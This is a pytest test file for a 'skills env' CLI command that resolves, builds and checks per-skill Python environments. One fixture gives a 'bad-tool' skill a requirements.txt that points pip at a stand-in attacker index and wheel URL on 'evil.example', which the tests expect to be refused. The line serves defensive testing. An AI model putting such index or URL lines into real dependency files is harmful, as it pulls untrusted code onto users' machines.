"""``harness skills env`` as a command: what skills need, building and checking."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from tests.support.cli import run_harness
from tests.support.skills import make_skill
from tests.support.wheels import write_wheelhouse

PEP723 = '# /// script\n# dependencies = ["hxpdf>=1"]\n# ///\nimport hxpdf\n'


def _cli(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "UV_CACHE_DIR": str(tmp_path / "uv-cache")}
    return run_harness(*args, timeout=300, env=env)


@pytest.fixture
def config(tmp_path: Path) -> Path:
    wheels = write_wheelhouse(tmp_path / "wheels")
    make_skill(tmp_path / "ws" / "skills", "pdf-tool", files={"scripts/run.py": PEP723})
    make_skill(tmp_path / "market", "sheet-tool", files={"requirements.txt": "hxsheet>=2\n"})
    make_skill(
        tmp_path / "market",
        "bad-tool",
        files={"requirements.txt": "-i https://evil.example/simple\nhxsheet @ https://evil.example/x.whl\n"},
    )
    path = tmp_path / "harness.yaml"
    path.write_text(
        f"workspace: ws\nrepositories: [dir:{tmp_path / 'market'}]\ntrusted_markets: [dir-market]\n"
        f"environments:\n  no_index: true\n  find_links: [{wheels}]\n"
        "  packages:\n    skills:\n      pdf-tool: [hxprose]\n"
    )
    return path


def test_env_lists_requirements_with_their_sources_and_exits_1_for_refused_ones(tmp_path: Path, config: Path) -> None:
    result = _cli(tmp_path, "skills", "env", "--json", "--config", str(config))
    assert result.returncode == 1, result.stderr
    rows = {row["skill_id"]: row for row in json.loads(result.stdout)}
    pdf = rows["pdf-tool_workspace"]
    assert [(r["requirement"], r["source"], r["origin"]) for r in pdf["requirements"]] == [
        ("hxpdf>=1", "pep723", "scripts/run.py"),
        ("hxprose", "operator", "harness.yaml"),
    ]
    assert pdf["state"] == "missing" and len(pdf["hash"]) == 64 and pdf["environment"] is None
    assert rows["sheet-tool_dir-market"]["requirements"][0]["source"] == "requirements.txt"
    bad = rows["bad-tool_dir-market"]
    assert bad["requirements"] == [] and bad["state"] == "none" and len(bad["problems"]) == 2
    assert "option" in bad["problems"][0] and "URL" in bad["problems"][1]


def test_env_build_and_check_make_one_skill_ready(tmp_path: Path, config: Path) -> None:
    result = _cli(tmp_path, "skills", "env", "pdf-tool", "--build", "--check", "--json", "--config", str(config))
    assert result.returncode == 0, result.stdout + result.stderr
    [row] = json.loads(result.stdout)
    assert row["state"] == "ready" and row["check"] == []
    folder = Path(row["environment"])
    assert folder.parent == tmp_path / "ws" / ".skills-cache" / ".envs"
    assert (folder / "hxpdf").is_dir() and (folder / "hxprose").is_dir()
    again = _cli(tmp_path, "skills", "env", "pdf-tool", "--config", str(config))
    assert again.returncode == 0 and "ready" in again.stdout and str(folder) in again.stdout


def test_env_check_fails_for_a_missing_environment_and_build_reports_uv_errors(tmp_path: Path, config: Path) -> None:
    assert _cli(tmp_path, "skills", "env", "sheet-tool", "--check", "--config", str(config)).returncode == 1
    (tmp_path / "market" / "sheet-tool" / "requirements.txt").write_text("hxnowhere\n")
    result = _cli(tmp_path, "skills", "env", "sheet-tool", "--build", "--config", str(config))
    assert result.returncode == 1
    assert "failed" in result.stdout and "hxnowhere" in result.stdout


def test_env_without_an_environments_section_is_a_usage_error(tmp_path: Path) -> None:
    result = _cli(tmp_path, "skills", "env", "--workspace", str(tmp_path / "ws"))
    assert result.returncode == 2 and "environments" in result.stderr


def test_an_unknown_environments_key_is_refused(tmp_path: Path, config: Path) -> None:
    config.write_text(config.read_text() + "  index: https://example.org/simple\n")
    result = _cli(tmp_path, "skills", "env", "--config", str(config))
    assert result.returncode == 2 and "environments must be" in result.stderr and "index_url" in result.stderr


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("pdf-tool", "--gc"), "--gc reclaims for every skill"),
        (("--gc", "--build"), "--gc reclaims for every skill"),
        (("--retention", "3"), "--retention goes with --gc"),
        (("--gc", "--retention", "-1"), "--retention goes with --gc"),
    ],
)
def test_gc_takes_no_skill_and_retention_goes_with_it(
    tmp_path: Path, config: Path, args: tuple[str, ...], message: str
) -> None:
    result = _cli(tmp_path, "skills", "env", *args, "--config", str(config))
    assert result.returncode == 2 and message in result.stderr
